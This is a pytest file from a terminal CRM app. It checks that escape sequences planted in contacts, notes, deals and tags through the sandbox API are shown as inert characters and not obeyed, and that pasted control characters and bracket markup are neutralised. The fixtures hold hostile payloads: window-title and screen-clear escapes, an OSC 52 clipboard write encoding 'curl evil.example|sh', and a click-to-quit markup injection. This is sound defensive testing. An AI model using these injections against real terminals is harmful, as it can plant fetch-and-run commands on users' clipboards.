"""Text a colleague, an integration or a web form put on the server is drawn, never obeyed.

A contact renamed through the API to `Alice\\x1b]0;PWNED\\x1b\\\\` must not retitle the window,
`\\x1b]52;c;...` must not fill the clipboard, `\\x1b[2J` must not clear the screen. The data is set
through the real sandbox over HTTP; the app then shows every screen, and what it would write to
the terminal is checked: no escape sequence of the data's, and the characters shown as ␛.
"""

from __future__ import annotations

import re

import pytest

from crmtui.backends.onepagecrm.client import OnePageCRMClient
from crmtui.sandbox.onepagecrm.server import SandboxHandle
from crmtui.ui.app import CrmApp
from crmtui.ui.screens.contact import ContactDetailScreen
from tests.support.server_edits import edit_contact

from .conftest import NARROW, WIDE, loaded, settled, wait_for
from .contact_support import open_contact
from .stream_support import stream_list

TITLE = "\x1b]0;PWNED\x1b\\"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # "curl evil.example|sh"
CLEAR = "\x1b[2J"
PAYLOADS = ("]0;PWNED", "]52;c;", "[2J", "[31m")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # tab and newline may appear in an export


async def make_hostile(sandbox: SandboxHandle) -> str:
    """Rename the most urgent contact of the stream and fill its records with escape sequences."""
    async with OnePageCRMClient(sandbox.user_id, sandbox.api_key, base_url=sandbox.base_url) as api:
        first = (await api.action_stream(per_page=1)).items[0]
        contact_id = first.contact.id
        await edit_contact(
            api,
            contact_id,
            {"first_name": f"Alice{TITLE}", "last_name": f"Bob{CLIPBOARD}", "company_name": f"{CLEAR}Acme",
             "background": f"line one\n{CLEAR}line two"},
        )
        await api.assign_tag(contact_id, "\x1b[31mred")
        assert first.next_action is not None
        await api.update_action(first.next_action.id, {"text": f"Call{CLEAR} back"})
        await api.create_note({"contact_id": contact_id, "text": f"Note{TITLE} body"})
        pipeline = (await api.pipelines_all())[0]
        await api.create_deal(
            {"contact_id": contact_id, "name": f"Deal{CLIPBOARD}", "amount": 100, "pipeline_id": pipeline.id,
             "stage": pipeline.stages[0].stage, "status": "pending"}
        )
    return contact_id


def terminal_output(app: CrmApp) -> str:
    """What the app writes to the terminal to draw the whole screen now (its own escapes included).

    A dialog is drawn over the screens under it, as the app draws it (the list behind a dialog too).
    """
    update = app.screen._compositor.render_update(full=True, screen_stack=list(app._background_screens))
    return update.render_segments(app.console)


TEXTUAL_CSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
"""The app's own sequences: colours, styles and cursor moves."""


def terminal_text(app: CrmApp) -> str:
    """The screen's text as written to the terminal, without the app's own sequences."""
    return TEXTUAL_CSI.sub("", terminal_output(app))


def assert_inert(app: CrmApp, where: str) -> str:
    """No escape sequence of the data's reaches the terminal, nor the screenshot; returns the screen's text."""
    written = terminal_output(app)
    for payload in PAYLOADS:
        assert "\x1b" + payload not in written, f"{where}: {payload!r} reached the terminal"
    assert not CONTROL.search(app.export_screenshot()), f"{where}: a control character is in the screenshot"
    text = TEXTUAL_CSI.sub("", written)  # the app's own sequences go; anything left is the data's
    assert not CONTROL.search(text), f"{where}: a control character other than the app's own reached the terminal"
    return text


@pytest.mark.parametrize("size", [NARROW, WIDE], ids=["80x24", "160x45"])
async def test_escape_sequences_from_the_server_are_shown_not_obeyed(sandbox, make_app, size) -> None:
    contact_id = await make_hostile(sandbox)
    app = make_app()
    async with app.run_test(size=size, notifications=True) as pilot:
        await loaded(pilot)
        await settled(pilot)
        lst = stream_list(app)
        assert lst.select_contact(contact_id)
        await pilot.pause()
        shown = assert_inert(app, "stream")
        assert "Alice␛]0;PW" in shown, "the name is shown with its escape characters visible"
        assert "Call␛[2J back" in shown

        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ContactDetailScreen), what="the contact detail")
        await settled(pilot)
        shown = assert_inert(app, "contact")
        assert "Alice␛]0;PWNED␛\\ Bob␛]52;c;" in shown
        for _ in range(6):  # every section of the contact: details, deals, notes, calls, meetings
            await pilot.press("tab")
            await settled(pilot)
            assert_inert(app, f"contact section {app.screen.active_section}")
        await pilot.press("escape")

        for key, name in (("2", "team"), ("3", "pipeline"), ("4", "notifications"), ("5", "changes")):
            await pilot.press(key)
            await settled(pilot)
            assert_inert(app, name)

        app.notify(f"Server said{CLEAR}{TITLE}", title=f"Refused{CLIPBOARD}")
        await wait_for(pilot, lambda: "Server said" in terminal_text(app), what="the toast")
        shown = assert_inert(app, "a toast")
        assert "Server said␛[2J␛]0;PWNED" in shown


async def test_the_clipboard_gets_what_was_shown(sandbox, make_app) -> None:
    """Copying a value (y on a contact's details) never puts a hidden escape sequence on the clipboard."""
    app = make_app()
    async with app.run_test(size=WIDE) as pilot:
        await loaded(pilot)
        app.copy_to_clipboard(f"ann@example.com{CLIPBOARD}")
        assert app.clipboard == "ann@example.com␛]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=␇"


async def test_a_contact_opened_directly_is_inert(sandbox, make_app) -> None:
    """The contact screen's own read (GET /contacts/{id}) goes through the same guard."""
    contact_id = await make_hostile(sandbox)
    app = make_app()
    async with app.run_test(size=WIDE) as pilot:
        await loaded(pilot)
        await open_contact(pilot, contact_id)
        shown = assert_inert(app, "contact opened directly")
        assert "Alice␛]0;PWNED␛\\ Bob␛]52;c;" in shown


async def test_a_paste_carries_no_control_characters_to_the_server() -> None:
    """A paste from a web page can hide escape sequences: what gets into a field is only what shows."""
    from textual import events
    from textual.app import App, ComposeResult

    from crmtui.ui.widgets.inputs import TextInput

    class Form(App[None]):
        def compose(self) -> ComposeResult:
            yield TextInput(id="text")

    app = Form()
    async with app.run_test() as pilot:
        field = app.query_one(TextInput)
        field.focus()
        field.post_message(events.Paste("Call\x1b]52;c;ZXZpbA==\x07 back\tsoon"))
        await pilot.pause()
        assert field.value == "Call]52;c;ZXZpbA== back soon"
        await pilot.press("x")
        assert field.value.endswith("soonx")


async def test_a_paste_into_a_form_s_text_area_carries_no_control_characters(make_app) -> None:
    """The forms' several-line fields (a new contact's background here) take no control characters
    either: each is a TextBox, as the note's is."""
    from textual import events
    from textual.widgets import TextArea

    from crmtui.ui.modals.new_contact import NewContactModal

    app = make_app()
    async with app.run_test(size=WIDE) as pilot:
        await loaded(pilot)
        await pilot.press("C")
        await wait_for(pilot, lambda: isinstance(app.screen, NewContactModal), what="the new-contact form")
        area = app.screen.query_one("#new-background", TextArea)
        area.focus()
        await pilot.pause()
        app.post_message(events.Paste("Met\x1b]52;c;ZXZpbA==\x07 at\tthe fair"))
        await wait_for(pilot, lambda: "fair" in area.text, what="the paste")
        assert area.text == "Met]52;c;ZXZpbA== at the fair"


MARKUP_NAME = ("Ann [/x]", "[@click=app.quit]Quit[/] [b]")
MARKUP_TAG = "[red]alarm[/red] [/oops]"


async def test_square_brackets_from_the_server_are_text_not_markup(sandbox, make_app) -> None:
    """A name like "Ann [/x]" ended the app (MarkupError) in a dialog's title; "[@click=…]" would be a link."""
    async with OnePageCRMClient(sandbox.user_id, sandbox.api_key, base_url=sandbox.base_url) as api:
        first = (await api.action_stream(per_page=1)).items[0]
        contact_id = first.contact.id
        first_name, last_name = MARKUP_NAME
        await edit_contact(api, contact_id, {"first_name": first_name, "last_name": last_name})
        await api.assign_tag(contact_id, MARKUP_TAG)
    app = make_app()
    async with app.run_test(size=WIDE, notifications=True) as pilot:
        await loaded(pilot)
        await settled(pilot)
        assert stream_list(app).select_contact(contact_id)
        await pilot.pause()
        for key, dialog in (("n", "New action"), ("a", "Assign")):  # the next-action form, the team picker
            await pilot.press(key)
            await wait_for(pilot, lambda: len(app.screen_stack) > 1, what=dialog)
            await pilot.pause()
            assert "Ann [/x] [@click=app.quit]Quit[/] [b]" in terminal_text(app), f"{dialog}: the name as it is"
            await pilot.press("escape")
            await settled(pilot)
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ContactDetailScreen), what="the contact detail")
        await settled(pilot)
        for key in ("N", "minus", "S"):  # a note's form, the tag remover, the status picker
            await pilot.press(key)
            await pilot.pause()
            await settled(pilot)
            shown = terminal_text(app)
            if key == "minus":
                assert MARKUP_TAG in shown, "the tag as it is, in the picker"
            assert app.is_running
            await pilot.press("escape")
            await settled(pilot)
        assert app.is_running and app.return_code is None


async def test_a_tag_holding_control_characters_can_still_be_removed(sandbox, make_app) -> None:
    """The tag is drawn inert but sent back as the server has it: it is its own id."""
    contact_id = await make_hostile(sandbox)
    app = make_app()
    async with app.run_test(size=WIDE) as pilot:
        await loaded(pilot)
        await open_contact(pilot, contact_id)
        await pilot.press("minus")
        await wait_for(pilot, lambda: "␛[31mred" in terminal_text(app), what="the tag picker")
        await pilot.press("enter")
        await wait_for(
            pilot, lambda: "\x1b[31mred" not in sandbox.state.tables["contacts"][contact_id]["tags"], what="the tag to go"
        )
        await settled(pilot)
        assert app.session.outbox.failed == 0
